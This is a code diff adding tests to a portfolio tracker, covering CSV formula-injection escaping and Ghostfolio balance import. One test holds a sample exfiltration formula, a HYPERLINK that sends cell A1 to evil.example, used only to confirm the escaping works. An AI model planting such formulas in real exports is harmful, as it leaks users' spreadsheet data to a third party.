@@ -10,20 +10,24 @@ from collections import Counter
 from datetime import UTC, date, datetime
 from decimal import Decimal
 from pathlib import Path
+from typing import Any
 
 import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from alex.domain.errors import InvalidInputError
-from alex.portfolio.formats import alex_csv, reference_csv
+from alex.portfolio.formats import alex_csv, csv_table, reference_csv
 from alex.portfolio.formats.fields import MAX_DECIMALS
 from alex.portfolio.formats.ghostfolio import dump_ghostfolio, parse_ghostfolio
 from alex.portfolio.formats.ids import transaction_ids
 from alex.portfolio.formats.problems import MAX_PROBLEMS, FormatError
+from alex.portfolio.holdings import ledger
 from alex.portfolio.model import (
     Account,
     AccountKind,
+    Instrument,
+    InstrumentType,
     Transaction,
     TransactionType,
 )
@@ -177,6 +181,48 @@ def test_a_hundred_thousand_rows_parse() -> None:
 
 
 # --- prices and the reference CSVs -------------------------------------------------------
+
+
+# Spreadsheet formulas (OWASP, "CSV Injection") -------------------------------------------------
+def test_user_text_that_a_spreadsheet_would_run_is_guarded_and_reads_back_the_same() -> None:
+    link = '=HYPERLINK("https://evil.example/?q="&A1,"Click")'
+    notes = [link, "-5 fee refund", "+1 bonus", "@SUM(A1:A2)", "\tx", "'=already quoted", "ok"]
+    transactions = [
+        Transaction(TODAY, "brokerage", TransactionType.FEE, None, Decimal(1), Decimal(5),
+                    Decimal(0), "USD", note)
+        for note in notes
+    ]  # fmt: skip
+    text = alex_csv.dump_transactions(transactions)
+    cells = [line.rsplit(",", 1)[-1] for line in text.splitlines()[1:] if "USD" in line]
+    # Each cell as written: a leading apostrophe before a formula character, and one more
+    # before apostrophes that precede one (so that reading removes exactly what was added).
+    assert text.count("'=HYPERLINK") == 1 and "'-5 fee refund" in text and "'+1 bonus" in text
+    assert "'@SUM" in text and "''=already quoted" in text and cells[-1] == "ok"
+    # Numbers are never touched: the amounts and fees stay numbers.
+    assert all(",FEE,,1,5,0,USD," in line for line in text.splitlines()[1:8])
+    assert alex_csv.parse_transactions(text, today=TODAY) == transactions
+
+    accounts = [Account("isa", "=1+1", AccountKind.TAXABLE, "GBP")]
+    instruments = [Instrument("X", "-X fund", InstrumentType.FUND, "GBP")]
+    account_text = reference_csv.dump_accounts(accounts)
+    instrument_text = reference_csv.dump_instruments(instruments)
+    assert "'=1+1" in account_text and "'-X fund" in instrument_text
+    assert reference_csv.parse_accounts(account_text) == accounts
+    assert reference_csv.parse_instruments(instrument_text) == instruments
+
+
+def test_a_hand_written_apostrophe_is_kept_unless_it_guards_a_formula() -> None:
+    text = csv_of("2024-03-01,brokerage,BUY,VTI,10,245.10,1.00,USD,'tis mine",
+                  "2024-03-02,brokerage,BUY,VTI,10,245.10,1.00,USD,'=1+1")  # fmt: skip
+    notes = [t.note for t in alex_csv.parse_transactions(text, today=TODAY)]
+    assert notes == ["'tis mine", "=1+1"]
+
+
+@given(st.text(max_size=30))
+def test_the_guard_is_undone_exactly(text: str) -> None:
+    guarded = csv_table.guard(text)
+    assert csv_table.unguard(guarded) == text
+    assert not guarded.startswith(csv_table.FORMULA_STARTS)
 
 
 def test_prices_parse_and_a_conflicting_close_is_named() -> None:
@@ -449,3 +495,71 @@ def test_activities_refer_to_the_files_accounts_when_it_has_some() -> None:
     # Without accounts in the file, the ids are the caller's to check.
     alone = parse_ghostfolio(ghostfolio_text([activity(accountId="other")]), today=TODAY)
     assert alone.transactions[0].account == "other"
+
+
+# Ghostfolio's account balances ---------------------------------------------------------------
+def ghostfolio_with_balance(balance: object, meta: bool = True) -> str:
+    """Modelled on Ghostfolio's test/import/ok/sample.json (commit c542997d): an account with
+    ``balance`` 2000 and the file's FEE of 49, BUY of 5 MSFT at 298.58 (fee 19) and DIVIDEND
+    of 5 x 0.62; ``balance`` is CreateAccountDto's required number (create-account.dto.ts)."""
+    account = "b2d3fe1d-d6a8-41a3-be39-07ef5e9480f0"
+    fee = "14a69cb9-1e31-43fa-b320-83703d8ed74b"
+
+    def activity(kind: str, day: str, symbol: str, q: float, p: float, f: float) -> dict[str, Any]:
+        return {"accountId": account, "comment": None, "fee": f, "quantity": q, "type": kind,
+                "unitPrice": p, "currency": "USD", "dataSource": "YAHOO",
+                "date": f"{day}T00:00:00.000Z", "symbol": symbol}  # fmt: skip
+
+    document: dict[str, object] = {
+        "accounts": [
+            {
+                "balance": balance,
+                "balances": [],
+                "comment": None,
+                "currency": "USD",
+                "id": account,
+                "name": "My Online Trading Account",
+                "platformId": None,
+            }
+        ],
+        "activities": [
+            {**activity("FEE", "2021-09-01", fee, 0, 0, 49), "dataSource": "MANUAL"},
+            activity("BUY", "2021-09-16", "MSFT", 5, 298.58, 19),
+            activity("DIVIDEND", "2021-11-17", "MSFT", 5, 0.62, 0),
+        ],
+    }
+    if meta:
+        document["meta"] = {"date": "2023-02-05T00:00:00.000Z", "version": "dev"}
+    return json.dumps(document)
+
+
+def test_a_ghostfolio_balance_becomes_the_cash_by_an_adjusting_deposit() -> None:
+    """The activities give -49 - (1,492.90 + 19) + 3.10 = -1,557.80 of cash; Ghostfolio says
+    2,000: a DEPOSIT of 3,557.80 on the export's day makes Alex's cash 2,000."""
+    found = parse_ghostfolio(ghostfolio_with_balance(2000), today=TODAY)
+    *activities, adjustment = found.transactions
+    assert len(activities) == 3
+    assert (adjustment.type, adjustment.date) == (TransactionType.DEPOSIT, date(2023, 2, 5))
+    assert (adjustment.quantity, adjustment.unit_price, adjustment.fee) == (1, Decimal("3557.8"), 0)
+    assert "Ghostfolio" in adjustment.note and adjustment.symbol is None
+    assert ledger(found.transactions).cash == {(adjustment.account, "USD"): Decimal("2000")}
+
+
+def test_a_ghostfolio_balance_below_the_activities_is_a_withdrawal_and_equal_is_nothing() -> None:
+    lower = parse_ghostfolio(ghostfolio_with_balance(-2000.2), today=TODAY).transactions
+    assert lower[-1].type is TransactionType.WITHDRAWAL and lower[-1].amount == Decimal("442.4")
+    assert ledger(lower).cash[(lower[0].account, "USD")] == Decimal("-2000.2")
+    same = parse_ghostfolio(ghostfolio_with_balance(-1557.8), today=TODAY).transactions
+    assert [t.type for t in same] == ["FEE", "BUY", "DIVIDEND"]
+
+
+def test_a_ghostfolio_balance_without_the_export_date_is_dated_by_the_last_activity() -> None:
+    found = parse_ghostfolio(ghostfolio_with_balance(0, meta=False), today=TODAY)
+    assert found.transactions[-1].date == date(2021, 11, 17)
+    with pytest.raises(FormatError, match=r"accounts\[0\], balance"):
+        parse_ghostfolio(ghostfolio_with_balance("2000"), today=TODAY)
+
+
+def test_a_file_without_balances_gets_no_adjustment() -> None:
+    found = parse_ghostfolio(GHOSTFOLIO.read_text("utf-8"), today=TODAY)
+    assert not any(t.type is TransactionType.DEPOSIT for t in found.transactions)
